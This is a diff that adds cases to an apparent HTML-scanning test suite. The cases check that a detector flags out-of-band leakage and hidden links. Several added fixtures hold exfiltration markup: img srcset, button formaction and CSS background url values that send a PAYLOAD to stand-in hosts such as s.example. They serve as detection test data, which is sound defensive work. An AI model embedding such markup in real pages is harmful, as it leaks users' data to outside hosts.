@@ -50,7 +50,17 @@ struct PageTests {
     ("<a href='LINK'>x</a><img src='https://stats.example/?p=PAYLOAD'>", "", ["OOB979"]),
     ("<a href='LINK'>x</a><form action='/log?t=TOKEN'></form>", "", ["OOB979"]),
     ("<a href='LINK'>x</a><script src=//cdn.example.net/a.js></script>", "", ["OOB982"]),
-    ("<a href='LINK'>x</a><script src=/a.js></script>", "", []), ("<p>nothing</p>", "", ["OOB971"]),
+    ("<a href='LINK'>x</a><script src=/a.js></script>", "", []),
+    ("<template><a href='LINK'>x</a></template>", "", ["OOB971"]),
+    ("<noscript><a href='LINK'>x</a></noscript>", "", ["OOB971"]), ("<a hidden href='LINK'>x</a>", "", ["OOB971"]),
+    ("<a download href='LINK'>x</a>", "", ["OOB971"]), ("<template></template><a href='LINK'>x</a>", "", []),
+    ("<a href='LINK' target=''>x</a><a href='LINK' target=_top>y</a>", "", []),
+    ("<a href='LINK'>x</a><script type='application/ld+json'>{\"url\":\"LINK\"}</script>", "", []),
+    ("<a href='LINK'>x</a><img srcset='https://s.example/?PAYLOAD 2x'>", "", ["OOB979"]),
+    ("<a href='LINK'>x</a><button formaction='https://s.example/?PAYLOAD'>y</button>", "", ["OOB979"]),
+    ("<a href='LINK'>x</a><p style='background:url(https://s.example/?PAYLOAD)'>", "", ["OOB979"]),
+    ("<a href='LINK'>x</a>", "<style>p{background:url(https://s.example/?PAYLOAD)}</style>", ["OOB979"]),
+    ("<a href='LINK'>x</a>", "<title>eyJ is how JSON begins</title>", []), ("<p>nothing</p>", "", ["OOB971"]),
     ("<!-- <a href='LINK'>x</a> --><textarea><a href='LINK'>x</a></textarea>", "", ["OOB971"]),
   ]
 
